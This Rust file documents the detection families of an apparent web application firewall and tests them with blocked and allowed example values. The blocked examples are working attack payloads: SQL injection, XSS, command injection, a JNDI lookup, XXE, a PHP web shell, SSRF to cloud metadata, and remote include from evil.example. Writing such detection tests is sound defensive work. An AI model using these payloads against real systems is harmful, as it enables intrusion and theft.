//! What operators read about each family; `make docs` makes a page of it. A test runs the examples.

use crate::finding::Family;

/// A family, as its page tells of it.
#[derive(Debug, Clone, Copy)]
pub struct About {
    /// Which one.
    pub family: Family,
    /// What it catches.
    pub catches: &'static str,
    /// What it deliberately lets pass.
    pub passes: &'static str,
    /// Names and values of parameters that are blocked at the default sensitivity.
    pub blocked: &'static [(&'static str, &'static str)],
    /// Near misses, which pass.
    pub fine: &'static [(&'static str, &'static str)],
}

const fn about(
    family: Family,
    catches: &'static str,
    passes: &'static str,
    blocked: &'static [(&'static str, &'static str)],
    fine: &'static [(&'static str, &'static str)],
) -> About {
    About { family, catches, passes, blocked, fine }
}

/// All families.
#[rustfmt::skip]
pub const ABOUT: [About; 23] = [
    about(Family::Sql,
        "Values that break out of a string, number or bracket of a statement, conditions whose outcome is known, `UNION SELECT`, statements of their own, functions that wait, read files or tell about the database, in the dialects of MySQL, PostgreSQL, SQLite, SQL Server and Oracle.",
        "A lone quote, a comparison, and prose with the same words.",
        &[("q", "x' or 1=1 -- "), ("id", "1 union select name, pass from members")],
        &[("q", "O'Brien or 1 other"), ("id", "the union selected a name")]),
    about(Family::Xss,
        "Elements that run script or load documents, event handlers, script URLs and styles, attributes and strings that are broken out of, calls of what payloads call.",
        "Markup that formats, drawings in which nothing runs, `1 < 2`, and `script` in prose.",
        &[("q", "<img src=x onerror=go(1)>"), ("q", "';alert(1)//")],
        &[("q", "<b>bold</b> and <a href=\"/a\">a link</a>"), ("q", "an alert (1) was raised")]),
    about(Family::Path,
        "Names that climb out of a folder, names of files that no client should ask for, files with an ending below `/etc` and those of processes, wrappers that read files.",
        "One `../` before an ordinary name, and `../` in prose.",
        &[("file", "../../etc/passwd"), ("file", "php://filter/resource=a")],
        &[("file", "../img/a.png"), ("q", "the file /etc/passwd is explained in passwd(5)")]),
    about(Family::Command,
        "Commands behind separators, line breaks and substitutions, of unix shells, cmd and PowerShell, whatever quotes and variables hide them; options that make a harmless command run another.",
        "Lists with `;`, `&` and pipes between words; code spans and fenced blocks of Markdown, at the price that a shell would run those too.",
        &[("host", "127.0.0.1; cat /etc/hosts"), ("host", "$(id)")],
        &[("q", "mammal;cat;ears"), ("q", "run `npm install` and `ls -la` first")]),
    about(Family::Lookup,
        "`${jndi:` however it is put together; lookups that run, fetch or read (`${script:`, `${dns:`, `${file:`); those of the environment, of the system and of containers that are all of a value, or stand in a URL. Where configuration is edited in a form, exclude its parameters.",
        "Other placeholders, and lookups of the environment within a sentence.",
        &[("q", "${${lower:j}ndi:ldap://x/a}"), ("q", "${env:AWS_SECRET_ACCESS_KEY}")],
        &[("q", "it reads ${env:PATH} at start"), ("q", "${name}")]),
    about(Family::Header,
        "A line break with a header or a status line behind it, in path, query, cookies and headers.",
        "Line breaks in texts; in bodies, lines that look like headers.",
        &[("next", "/a\r\nSet-Cookie: a=b")],
        &[("next", "two\r\nlines: of text")]),
    about(Family::Entity,
        "Declarations of entities, and document types that lie outside: all with a system identifier, and those with a public one whose file is not one of the known publishers'.",
        "A plain `DOCTYPE`, and the public ones of the W3C, OASIS, Apple, Java and its persistence frameworks.",
        &[("xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///x\">]><a>&x;</a>"), ("xml", "<!DOCTYPE r PUBLIC \"-//a//b\" \"http://evil.example/x.dtd\"><r/>")],
        &[("xml", "<!DOCTYPE html>"), ("xml", "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">")]),
    about(Family::Code,
        "PHP (tags, calls, variables that are called), Java (runtime, reflection, OGNL), Node, Python, Ruby and Perl.",
        "Text about code, names of functions, stack traces; code spans in sentences and fenced blocks of Markdown.",
        &[("q", "<?php system($_GET['c']); ?>"), ("q", "java.lang.Runtime.getRuntime()")],
        &[("q", "call `require('fs')` at the top of your module")]),
    about(Family::Nosql,
        "Operators as names (`a[$ne]`, keys of JSON), and script in `$where`.",
        "`$filter`, `$ref`, `$schema`. Exclude `age[*` where an interface takes operators.",
        &[("q", "{\"$where\": \"sleep(1000)\"}")],
        &[("$filter", "price lt 10")]),
    about(Family::Template,
        "Expressions that compute with constants, call, or reach for what an engine has; directives; server-side and edge-side includes; style sheets that transform documents (XSLT).",
        "Placeholders, and filters of them.",
        &[("name", "{{7*7}}"), ("name", "#set($x=7*7)$x")],
        &[("name", "Hello {{ user.name | title }}")]),
    about(Family::Ssrf,
        "URLs to loopback, link-local and private addresses and the metadata of clouds, in each spelling; schemes of other protocols. In headers those that no visitor comes from.",
        "Addresses in prose, a redirect back to a local application or within the own network (`return_url=`), local addresses in headers and in the claims of tokens.",
        &[("url", "http://169.254.169.254/latest/"), ("url", "http://0x7f000001/")],
        &[("url", "https://example.com/"), ("q", "we use 10.0.0.1 at home")]),
    about(Family::Include,
        "A remote script, a URL that is cut off by `?`, an address, where a file of the application is expected.",
        "A plain URL of another site.",
        &[("page", "http://evil.example/shell.txt?")],
        &[("page", "https://example.com/about")]),
    about(Family::Redirect,
        "`//host`, `/\\host`, missing slashes, a host before `@`, where a target is expected.",
        "A plain URL of another site.",
        &[("next", "/\\evil.example")],
        &[("next", "/account/orders")]),
    about(Family::Ldap,
        "Values that close a filter and go on.",
        "Brackets in prose.",
        &[("user", "*)(uid=*))(|(uid=*")],
        &[("user", "Anna (Berlin)")]),
    about(Family::Xpath,
        "Values that go on as a path or a condition.",
        "Paths and brackets.",
        &[("user", "x'] | //user[name()='a")],
        &[("user", "[draft] a/b")]),
    about(Family::Mail,
        "Headers and commands behind an address.",
        "Letters, and mails that are quoted.",
        &[("from", "a@b.example\r\nTo: c@d.example\r\n\r\nhello")],
        &[("from", "a@b.example")]),
    about(Family::Object,
        "Objects of PHP, Java, .NET, Python, Ruby and node-serialize, in base64 and hexadecimal digits too.",
        "Arrays of PHP, and other base64.",
        &[("state", "O:8:\"stdClass\":0:{}"), ("state", "rO0ABXNyABFqYXZh")],
        &[("state", "a:1:{i:0;i:1;}")]),
    about(Family::Prototype,
        "`__proto__` and `constructor.prototype` as keys.",
        "These words in text.",
        &[("q", "{\"__proto__\": {\"admin\": true}}"), ("q", "{\"constructor\": {\"prototype\": {\"admin\": true}}}")],
        &[("q", "what is __proto__ for?")]),
    about(Family::Upload,
        "Names that a server would run, script and programs behind a picture's type, drawings in which something runs, web shells, names in ZIP and tar archives that climb; anywhere in a file of any length.",
        "What users upload otherwise: programs (`setup.exe`, `install.sh`) under their own names, and what Windows sends as a path (`C:\\photos\\x.jpg`).",
        &[], &[]),
    about(Family::Session,
        "A session's identifier as a parameter, from another site.",
        "The same from one's own site, or without `referer`.",
        &[], &[]),
    about(Family::Scanner,
        "Attack tools by their names, requests for what deployments leave behind, and GraphQL that asks for the schema (`__schema`, `__type`). Where developers explore an interface, exclude `query` there. Who is refused again and again, or finds nothing, is banned by the rate-limit policy (`bans`: `on_attacks`, `on_status`).",
        "Crawlers, libraries, and monitors; `__typename`.",
        &[("query", "{ __schema { types { name } } }")],
        &[("query", "{ user { __typename name } }")]),
    about(Family::Protocol,
        "Methods, hosts, lengths, media types, ranges and escapes that two readers take differently; too many parameters; parts of a form that parsers read differently; GraphQL that is nested deeper than 15, has fragments that spread themselves, asks for more than 50 fields under other names, or comes in batches of more than 25.",
        "Latin-1 in escapes, and JSON with GET.",
        &[("q", "a\0b")],
        &[("q", "caf\u{e9}")]),
    about(Family::Custom,
        "What your own `patterns` match.",
        "Everything else.",
        &[], &[]),
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Sanitize, Wire};
    use portcullis_policy::{Policy, Site, Vocabulary};

    /// The reason for which a request with that parameter is refused.
    fn judged(name: &str, value: &str) -> Option<&'static str> {
        let mut errors = portcullis_policy::ConfigErrors::default();
        let policy =
            Sanitize::compile(Wire::default(), &Site::root(), &Vocabulary::default(), &mut errors).unwrap();
        let escaped: String = value.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let path = format!("/?{name}={escaped}");
        let effects = crate::tests::play(&policy, &[(b":path", path.as_bytes())], &[]);
        effects.iter().find_map(|effect| match effect {
            portcullis_policy::Effect::Refuse(refusal) => Some(refusal.reason),
            _ => None,
        })
    }

    #[test]
    fn the_examples_are_what_they_are_said_to_be() {
        let mut wrong = Vec::new();
        for (index, about) in ABOUT.iter().enumerate() {
            assert_eq!(about.family.number(), index);
            assert!(!about.catches.is_empty() && !about.passes.is_empty());
            let examples = about.blocked.iter().map(|example| (example, Some(about.family.code())));
            for ((name, value), expected) in examples.chain(about.fine.iter().map(|example| (example, None)))
            {
                let found = judged(name, value);
                if found != expected {
                    wrong.push(format!("{name}={value}: {found:?}"));
                }
            }
            assert_eq!(about.blocked.is_empty(), about.fine.is_empty());
        }
        assert_eq!(wrong, Vec::<String>::new());
    }
}
